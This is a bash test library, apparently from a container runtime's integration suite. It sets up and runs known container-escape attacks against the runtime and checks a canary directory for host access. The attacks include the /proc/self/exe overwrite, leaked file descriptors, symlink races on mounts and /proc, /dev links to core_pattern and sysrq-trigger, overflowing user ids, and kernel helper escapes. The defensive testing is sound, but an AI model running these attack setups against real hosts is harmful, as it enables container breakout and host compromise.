# shellcheck shell=bash
# SPDX-License-Identifier: MIT
# The attacks of SECURITY.md, section 2, for any runtime that has docker's command line: each function
# prints what the attacker reached, and nothing if that was nothing. Sourced by
# tests/integration/38-attacks.sh and by compare.sh, which define
#     rt run|exec ARGUMENT...        the runtime, in a private network; run removes what ended
#     rt_start NAME FILE ARGUMENT... the same in the background, until FILE says "ready"; sets pid
#     rt_kill NAME PID               end it, and wait for PID
#     rt_root TREE COMMAND...        run with a directory as the root, and the sysctl kernel.msgmax=4096
#     rt_load NAME DIR               load the OCI layout DIR as the image NAME
# and T, CORPUS, TOP, ROUNDS. The canary is a directory that no container is given. STARTERS of them
# start containers at a time: most of a start is waiting, on a busy machine nearly all of it. With volumes on a
# disk that others use the most of it is the disk: with TMPDIR=/dev/shm these rounds took a tenth of the time.
CANARY=$T/canary
: "${ROUNDS:=18}" "${STARTERS:=1}"

attacks_prepare() {
	mkdir -p "$CANARY/deep" "$T/layer/bin" "$T/shared"
	echo secret >"$CANARY/secret"
	echo link >"$CANARY/link"
	chmod 600 "$CANARY"/*
	mkdir -p "$CANARY/sys/kernel" "$CANARY/self/attr"
	echo canary | tee "$CANARY/sys/kernel/msgmax" "$CANARY/keys" >"$CANARY/self/attr/exec"
	canary_before=$(canary_state)
	"${CC:-cc}" -std=gnu17 -D_GNU_SOURCE -O2 -Wall -Wextra -static -o "$T/attacker" "$TOP/tests/attacks/attacker.c"
	make_image attacked
}

canary_state() { find "$CANARY" -printf '%p %y %m %U:%G %n %s\n' | sort; find "$CANARY" -type f -exec cat {} +; }

# What was done to the canary since the beginning; then it is made anew.
canary_changes() {
	local now

	now=$(canary_state)
	[ "$now" = "$canary_before" ] && return
	echo "the canary was changed:"
	diff <(echo "$canary_before") <(echo "$now")
	rm -rf --one-file-system "$CANARY"
	attacks_prepare 2>/dev/null
}

# The payload's image with one layer on top, of $T/layer, which is emptied; the attacker is in all of them.
make_image() { # NAME [CONFIG-MEMBERS]
	mkdir -p "$T/layer"
	cp "$T/attacker" "$T/layer/attacker"
	tar -C "$T/layer" -cf "$T/layer.tar" .
	rm -rf "$T/layer" "$T/image-$1" && mkdir -p "$T/layer/etc"
	"$TOP/tests/corpus/mkimage.py" oci "$T/image-$1" "$1:1.0" '{"Cmd":["true"],"Env":["PATH=/bin"]'"${2:+,$2}"'}' \
		"$CORPUS"/payload/layers/*.tar "$T/layer.tar" && rt_load "$1" "$T/image-$1"
}

reached() { grep -h ^reached "$@" | sort | uniq -c; }

# A round that the runtime refuses to start is one that it withstood, too.
ran() { # FILE TIMES
	echo "# started in $(grep -c ^ran "$1") of $2 rounds" >&2
}

# COMMAND so many times, by all starters.
rounds() { # TIMES COMMAND...
	local i w starters=()

	for ((w = 0; w < STARTERS; w++)); do
		for ((i = w; i < $1; i += STARTERS)); do "${@:2}"; done &
		starters+=($!)
	done
	wait "${starters[@]}"
}

some() { echo $((ROUNDS > $1 ? $1 : ROUNDS)); }

# 1. /proc/self/exe of what joins the container (CVE-2019-5736).
attack_executable() {
	local i pid

	mkdir -p "$T/layer/bin"
	printf '#!/proc/self/exe\n' >"$T/layer/bin/self"
	chmod 755 "$T/layer/bin/self"
	make_image executable
	rt_start victim "$T/out" executable:1.0 /attacker exe || return
	for ((i = 0; i < $(some 2000); i++)); do
		rt exec victim true
		((i % 4)) || rt exec victim self
		((i % 4)) || rt exec victim /proc/self/exe
	done >/dev/null 2>&1
	rt_kill victim "$pid"
	reached "$T/out"
}

# 2. Descriptors that leak, and working directories through them (CVE-2024-21626).
attack_descriptors() {
	local i pid

	mkdir -p "$T/layer"
	for i in 3 4 5 6 7 8 9 10 11 12; do ln -s "/proc/self/fd/$i" "$T/layer/fd$i"; done
	make_image descriptors
	rt_start victim "$T/ready" descriptors:1.0 sh -c 'echo ready; exec sleep 1000' || return
	for i in 3 4 5 6 7 8 9 10 11 12; do
		rt run -w "/proc/self/fd/$i" descriptors:1.0 /attacker escape "$CANARY/secret"
		rt run -w "/fd$i" descriptors:1.0 /attacker escape "$CANARY/secret"
		rt exec -w "/proc/self/fd/$i" victim /attacker escape "$CANARY/secret"
		rt exec -w "/fd$i" victim /attacker escape "$CANARY/secret"
	done >"$T/out" 2>/dev/null
	rt exec victim /attacker escape "$CANARY/secret" >>"$T/out"
	rt_kill victim "$pid"
	reached "$T/out"
}

# 3. A mount target that becomes a symlink, in a volume that another container has (CVE-2021-30465).
attack_targets() {
	local pid

	rm -rf "$T/shared" && mkdir -p "$T/shared/place" "$T/given"
	ln -s "/../../../../../../../..$CANARY/deep" "$T/shared/link"
	rt_start racer "$T/ready" -v "$T/shared:/v" attacked:1.0 /attacker swap /v/place /v/link || return
	rounds "$ROUNDS" rt run -v "$T/shared:/v" -v "$T/given:/v/place/x" attacked:1.0 \
		/attacker escape "$CANARY/secret" >"$T/out" 2>/dev/null
	rt_kill racer "$pid"
	reached "$T/out"
	ran "$T/out" "$ROUNDS"
	grep -q ^ran "$T/out" || echo "reached nothing: no container was started"
	canary_changes
}

# 4. A volume that is filled from the image while another container changes it.
attack_filling() {
	local i pid

	mkdir -p "$T/layer/fill/one" "$T/layer/fill/two"
	for i in {1..16}; do tee "$T/layer/fill/one/$i" "$T/layer/fill/two/$i" >/dev/null <<<"$i"; done
	echo "from the image" >"$T/layer/fill/one/secret"
	ln "$T/layer/fill/one/secret" "$T/layer/fill/two/link"
	mkfifo -m 666 "$T/layer/fill/pipe"
	echo >"$T/layer/fill/zz-done"
	make_image filling
	rt_start racer "$T/ready" -v filled:/v attacked:1.0 /attacker fill /v "$CANARY" || return
	for ((i = 0; i < ROUNDS; i++)); do
		rt run -v filled:/fill filling:1.0 sh -c 'cat /fill/*/* 2>/dev/null | grep -qx -e secret -e link &&
			echo reached a file of the host; echo ran; touch /fill/done; until [ ! -e /fill/done ]; do :; done'
	done >"$T/out" 2>/dev/null
	rt_kill racer "$pid"
	reached "$T/out"
	ran "$T/out" "$ROUNDS"
	canary_changes
}

# 5. Masks, and writes below /proc, in a root that another container changes meanwhile (CVE-2025-31133,
# CVE-2025-52881): what was /proc a moment ago is a symlink to something else.
attack_shared_root() {
	local i pid place

	mkdir -p "$T/tree"
	for i in "$CORPUS"/payload/layers/*.tar; do tar -C "$T/tree" -xf "$i"; done
	mkdir -p "$T/tree/proc" "$T/tree/sys" "$T/tree/dev" "$T/tree/tmp"
	cp "$T/attacker" "$T/tree/attacker"
	for place in proc sys dev; do
		rm -rf "$T/tree/link" && ln -s "$CANARY" "$T/tree/link"
		rt_start racer "$T/ready" -v "$T/tree:/v" attacked:1.0 /attacker swap "/v/$place" /v/link || return
		for ((i = 0; i < $(some 900) / 3; i++)); do
			rt_root "$T/tree" /attacker masks "$CANARY/secret"
		done >"$T/out" 2>/dev/null
		rt_kill racer "$pid"
		reached "$T/out"
		ran "$T/out" $(($(some 900) / 3))
		rm -rf "$T/tree/link" "$T/tree/$place" && mkdir "$T/tree/$place"
	done
	rm -rf --one-file-system "$T/tree"
	canary_changes
}

# 6. /proc, /sys, /dev and what masks are made of, as links in the image.
attack_places() {
	local place

	for place in proc sys dev; do
		mkdir -p "$T/layer" && ln -s "$CANARY" "$T/layer/$place"
		make_image "place-$place"
		rt run "place-$place:1.0" /attacker masks
		rt run --sysctl kernel.msgmax=4096 "place-$place:1.0" /attacker escape "$CANARY/secret"
	done >"$T/out" 2>/dev/null
	mkdir -p "$T/layer/dev" "$T/layer/proc" "$T/layer/sys/fs"
	ln -s /proc/sys/kernel/core_pattern "$T/layer/dev/null"
	ln -s /proc/sys/kernel/core_pattern "$T/layer/dev/console"
	ln -s /proc/sysrq-trigger "$T/layer/dev/tty"
	ln -s "$CANARY" "$T/layer/dev/shm"
	ln -s "$CANARY" "$T/layer/dev/pts"
	ln -s "$CANARY" "$T/layer/proc/sys"
	ln -s "$CANARY" "$T/layer/sys/fs/cgroup"
	make_image masks
	rt run masks:1.0 /attacker masks >>"$T/out" 2>/dev/null
	rt run masks:1.0 /attacker escape "$CANARY/secret" >>"$T/out" 2>/dev/null
	reached "$T/out"
	canary_changes
}

# 7. Users: files that never end, ids that overflow, names that are another's (CVE-2024-40635).
attack_users() {
	local file user id start

	for file in fifo huge device-link directory loop; do
		mkdir -p "$T/layer/etc"
		case $file in
		fifo) mkfifo "$T/layer/etc/passwd" "$T/layer/etc/group" ;;
		huge) truncate -s 2M "$T/layer/etc/passwd" ;;
		device-link) ln -s /dev/zero "$T/layer/etc/passwd" ;;
		directory) mkdir "$T/layer/etc/passwd" ;;
		loop) ln -s passwd "$T/layer/etc/passwd" ;;
		esac
		make_image "users-$file"
		start=$SECONDS
		id=$(rt run -u app "users-$file:1.0" sh -c 'echo ran' 2>/dev/null)
		[ -z "$id" ] || echo "reached a user that is nowhere, by $file"
		[ $((SECONDS - start)) -lt 180 ] || echo "reached a hang by $file"
	done
	mkdir -p "$T/layer/etc"
	printf '%s\n' 'root:x:0:0::/:' 'minus:x:-1:0::/:' 'big:x:4294967296:0::/:' 'last:x:4294967295:0::/:' \
		'hex:x:0x0:0::/:' 'word:x:zero:0::/:' 'space:x: 0:0::/:' '1000:x:0:0::/:' >"$T/layer/etc/passwd"
	make_image users
	for user in 4294967296 4294967295 18446744073709551616 -1 minus big last hex word space; do
		id=$(rt run -u "$user" users:1.0 id -u 2>/dev/null)
		[ "$id" != 0 ] || echo "reached root by the user $user"
	done
	id=$(rt run -u 1000 users:1.0 id -u 2>/dev/null)
	[ "$id" = 1000 ] || echo "reached ${id:-nothing} by the user 1000, who is named so"
}

# 8. The terminal: typed into, and its files in /dev replaced before somebody joins with one.
attack_terminal() {
	local pid way

	rt_tty run attacked:1.0 /attacker type >"$T/out" 2>&1
	grep -q typed "$T/out" || echo "reached nothing: no terminal to try"
	for way in "ln -s /proc/sys/kernel/core_pattern" "ln -s $CANARY/secret" touch; do
		rt_start victim "$T/ready" attacked:1.0 sh -c \
			"cd /dev; for f in console null tty ptmx; do rm -f \$f; $way \$f; done 2>/dev/null; echo ready; exec sleep 1000" || return
		rt_tty exec victim /attacker type
		rt exec victim true
		rt_kill victim "$pid"
	done >>"$T/out" 2>/dev/null
	reached "$T/out"
	canary_changes
}

# 9. What joins is stopped, read, or followed home (CVE-2016-9962).
attack_joiners() { # [OPTION...]
	local pid

	rt_start victim "$T/out" "$@" attacked:1.0 /attacker snoop || return
	rounds "$(some 2000)" rt exec victim true >/dev/null 2>&1
	rt_kill victim "$pid"
	reached "$T/out"
}

# 10. The kernel's own ways out: release_agent (CVE-2022-0492), core_pattern, modprobe, uevent_helper.
attack_kernel() {
	rt run attacked:1.0 /attacker kernel >"$T/out" 2>/dev/null
	reached "$T/out"
}

# And what is the host's keeps its owner and mode, whoever the app is.
attack_owners() {
	chmod 600 "$CANARY/secret"
	rt run -u 1000:1000 -v "$CANARY:/given" attacked:1.0 true <"$CANARY/secret" >>"$CANARY/link" 2>>"$CANARY/link"
	rt run -u 1000:1000 -v "$CANARY/secret:/etc/given" attacked:1.0 true <"$CANARY/secret" >>"$CANARY/link" 2>>"$CANARY/link"
	canary_changes
}
